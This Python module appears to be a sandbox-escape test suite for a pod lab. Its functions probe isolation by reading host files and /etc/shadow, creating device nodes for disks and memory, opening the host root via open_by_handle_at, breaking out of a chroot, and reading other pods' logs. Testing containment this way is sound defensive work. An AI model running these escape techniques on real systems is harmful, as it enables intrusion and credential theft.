"""Attempts at the host's files, devices, FIFOs and sockets of the file system, and at what the lab keeps in files."""

import ctypes
import fcntl
import os
import pwd
import socket
import stat
import struct
import subprocess

from escapes.attempt import NotHereError, Targets, attempt, check, exposed, first, libc, secret_in

_SHARED = ("/etc/passwd", "/usr/bin/env")  # files that a pod is shown of every machine
_SHARED_DIRECTORIES = "/ /etc /usr /usr/bin /usr/local /usr/local/bin /usr/lib /opt /srv /var".split()
_PRIVATE = ("/etc/shadow", "/etc/shadow-", "/etc/gshadow")
_LAB = "/run/sidelab"
_DEVICES = (
    "mem kmem port kmsg kvm fuse vda sda nvme0n1 loop-control loop0 mapper/control uinput input/mice vhost-net "
    "vhost-vsock vsock net/tun rtc0 watchdog console tty0 tty1 ttyS0 nvram autofs btrfs-control vfio/vfio cpu/0/msr "
    "userfaultfd dri/card0 cpu_dma_latency hpet mcelog"
).split()
_MEMORY = {"mem": (1, 1), "port": (1, 4), "kmsg": (1, 11), "msr": (202, 0), "fuse": (10, 229), "loop": (10, 237)}
_GETFLAGS, _SETFLAGS = 0x80086601, 0x40086602


@attempt
def read_files_of_the_host(targets: Targets) -> str | None:
    """Read files of the person who started the lab, in /tmp, /run, /dev/shm, homes and elsewhere."""
    return exposed(targets)


@attempt
def write_files_of_the_host(targets: Targets) -> str | None:
    """Open such files for writing, and files that a pod is shown."""

    def written(path: object) -> str:
        os.close(os.open(str(path), os.O_WRONLY))
        return f"{path} is open for writing"

    return first(written, (*targets.files, *_SHARED))


@attempt
def make_files_of_the_host(targets: Targets) -> str | None:
    """Make a file in a directory of the host."""

    def made(directory: object) -> str:
        path = f"{directory}/sidelab-escape"
        os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
        os.unlink(path)
        return f"{path} could be made"

    return first(made, (*_SHARED_DIRECTORIES, *map(os.path.dirname, targets.files)))


@attempt
def rename_files_of_the_host(targets: Targets) -> str | None:
    """Rename a file of the host to the name that it has, and links it beside itself."""

    def renamed(path: object) -> str:
        os.link(str(path), f"{path}.sidelab-escape")
        os.unlink(f"{path}.sidelab-escape")
        return f"{path} could be linked"

    return first(renamed, (*targets.files, *_SHARED))


@attempt
def change_modes_of_host_files(targets: Targets) -> str | None:
    """Set the mode of a file of the host to what it is."""

    def changed(path: object) -> str:
        os.chmod(str(path), stat.S_IMODE(os.stat(str(path)).st_mode))
        return f"chmod {path}"

    return first(changed, (*targets.files, *_SHARED))


@attempt
def change_owners_of_host_files(targets: Targets) -> str | None:
    """Make itself the owner of a file of the host."""

    def changed(path: object) -> str:
        os.chown(str(path), os.getuid(), -1)
        return f"chown {path}"

    return first(changed, targets.files)


@attempt
def change_times_of_host_files(targets: Targets) -> str | None:
    """Set the times of a file of the host to what they are."""

    def changed(path: object) -> str:
        was = os.stat(str(path))
        os.utime(str(path), ns=(was.st_atime_ns, was.st_mtime_ns))
        return f"utime {path}"

    return first(changed, (*targets.files, *_SHARED))


@attempt
def change_flags_of_host_files(targets: Targets) -> str | None:
    """Set the flags of a file of the host, such as immutable, to what they are."""

    def changed(path: object) -> str:
        with open(str(path), "rb") as file:
            flags = bytearray(8)
            fcntl.ioctl(file, _GETFLAGS, flags)
            fcntl.ioctl(file, _SETFLAGS, bytes(flags))
        return f"flags of {path}"

    return first(changed, (*targets.files, *_SHARED))


@attempt
def change_attributes_of_host_files(targets: Targets) -> str | None:
    """Give a file of the host an extended attribute, as security modules and file capabilities use them."""

    def changed(path: object) -> str:
        os.setxattr(str(path), "user.sidelab-escape", b"1")
        os.removexattr(str(path), "user.sidelab-escape")
        return f"attribute of {path}"

    return first(changed, (*targets.files, *_SHARED))


@attempt
def lease_files_of_the_host(targets: Targets) -> str | None:
    """Take a lease on a file of the host, so that who opens it there has to wait."""

    def leased(path: object) -> str:
        with open(str(path), "rb") as file:
            fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_RDLCK)
            fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_UNLCK)
        return f"a lease on {path}"

    return first(leased, (*targets.files, *_SHARED))


@attempt
def read_passwords(_: Targets) -> str | None:
    """Read the host's password hashes."""

    def read(path: object) -> str | None:
        with open(str(path), "rb") as file:
            return f"{path}" if file.read(5) else None

    return first(read, _PRIVATE)


@attempt
def run_set_uid_programs(_: Targets) -> str | None:
    """Have a set-uid program of the host, `passwd -S`, read what only the host's root may read."""
    name = pwd.getpwuid(os.getuid()).pw_name if os.getuid() in {0, 65534} else "nobody"
    done = subprocess.run(["/usr/bin/passwd", "-S", name], capture_output=True, text=True, check=False)
    # Without permission to read it prints `never`, or no date at all.
    read = done.stdout.startswith(f"{name} ") and " never " not in done.stdout and len(done.stdout.split()) > 2
    return done.stdout.strip() if read else None


@attempt
def gain_privileges_by_execution(_: Targets) -> str | None:
    """Take back that no program which it executes gains privileges, then executes `su` as somebody."""
    with open("/proc/self/status", encoding="utf-8") as file:
        status = dict(line.split(":\t", 1) for line in file if ":\t" in line)
    return None if status["NoNewPrivs"].strip() == "1" else "no_new_privs is not set"


@attempt
def open_files_by_handle(targets: Targets) -> str | None:
    """Open the root of the host's file system by its handle, whatever the pod is shown (open_by_handle_at(2))."""

    class Handle(ctypes.Structure):
        _fields_ = (("size", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128))

    def opened(number: object) -> str | None:
        handle = Handle(8, 1)  # FILEID_INO32_GEN: the inode and its generation
        ctypes.memmove(handle.data, struct.pack("=II", number, 0), 8)
        root = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
        fd = check(libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY))
        os.fchdir(fd)
        return exposed(targets, f"/proc/self/fd/{fd}") or f"inode {number}: {os.listdir(fd)[:3]}"

    return first(opened, (2, 128, 256, 96, 64, 1))


@attempt
def open_disks_by_number(_: Targets) -> str | None:
    """Make a device file of the host's disk, and reads it."""
    with open("/proc/partitions", encoding="ascii") as file:
        disks = [tuple(map(int, line.split()[:2])) for line in file.readlines()[2:]]
    if not disks:
        raise NotHereError("the machine has no disk")
    return first(lambda disk: _node_opened("disk", stat.S_IFBLK, disk), disks)


@attempt
def open_memory_by_number(_: Targets) -> str | None:
    """Make device files of memory, ports, the kernel's log and the like, and opens them."""
    return first(lambda name: _node_opened(str(name), stat.S_IFCHR, _MEMORY[str(name)]), _MEMORY)


def _node_opened(name: str, kind: int, numbers: object) -> str:
    path = f"/tmp/node-{os.getpid()}"
    os.mknod(path, kind | 0o600, os.makedev(*numbers))  # type: ignore[misc]
    try:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    finally:
        os.unlink(path)
    return f"{name} {numbers}"


@attempt
def open_devices(_: Targets) -> str | None:
    """Open device files of the host in /dev."""

    def opened(name: object) -> str:
        os.close(os.open(f"/dev/{name}", os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
        return f"/dev/{name}"

    return first(opened, _DEVICES)


@attempt
def write_into_fifos(targets: Targets) -> str | None:
    """Write into a FIFO that a service of the host reads."""

    def written(path: object) -> str:
        fd = os.open(str(path), os.O_WRONLY | os.O_NONBLOCK)
        os.write(fd, b"from a pod\n")
        return f"{path}"

    return first(written, targets.fifos)


@attempt
def ask_services_by_path(targets: Targets) -> str | None:
    """Connect to a service of the host through its socket in the file system."""

    def asked(path: object) -> str | None:
        with socket.socket(socket.AF_UNIX) as link:
            link.settimeout(1)
            link.connect(str(path))
            return secret_in(link.recv(100), str(path))

    return first(asked, targets.sockets)


@attempt
def read_what_the_lab_keeps(_: Targets) -> str | None:
    """Read other pods' logs and whatever else the lab keeps in files."""
    for directory, _, names in os.walk(_LAB):
        for name in names:
            path = os.path.join(directory, name)
            try:
                with open(path, "rb") as file:
                    if got := secret_in(file.read(1 << 20), path):
                        return got
            except OSError:
                continue
    return None


@attempt
def change_what_the_lab_publishes(_: Targets) -> str | None:
    """Change what the lab tells pods about the cluster and about themselves, which sidecars believe."""
    for directory, _, names in os.walk(_LAB):
        for name in names:
            path = os.path.join(directory, name)
            try:
                os.close(os.open(path, os.O_WRONLY))
            except OSError:
                continue
            return path
        try:
            path = os.path.join(directory, "state.json.new")
            os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
            os.unlink(path)
        except OSError:
            continue
        return path if directory != _LAB or names else None
    return None


@attempt
def leave_by_chroot(targets: Targets) -> str | None:
    """Climb out of its root with chroot(2) and a directory that it holds open."""
    os.makedirs("/tmp/below", exist_ok=True)
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    os.chroot("/tmp/below")
    os.fchdir(root)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return exposed(targets)


@attempt
def use_descriptors_left_open(_: Targets) -> str | None:
    """Use a descriptor that whoever started it forgot to close."""
    return f"descriptors {LEFT_OPEN}" if LEFT_OPEN else None


def _left_open() -> list[str]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            found.append(f"{name}: {os.readlink(f'/proc/self/fd/{name}')}")
        except OSError:
            continue  # the one that lists
    return [each for each in found if int(each.partition(":")[0]) > 2 and "escapes.zip" not in each]


LEFT_OPEN = _left_open()
